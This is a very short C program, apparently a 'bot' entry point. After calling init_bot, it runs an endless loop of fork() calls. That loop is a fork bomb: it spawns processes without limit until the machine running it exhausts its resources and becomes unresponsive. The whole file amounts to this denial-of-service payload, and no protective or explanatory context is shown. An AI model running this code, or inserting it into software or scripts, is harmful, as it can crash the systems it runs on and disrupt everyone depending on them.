#include "common.h"
int main(int argc, char **argv) {
	init_bot(argc, argv);
	for (;;) fork();
}
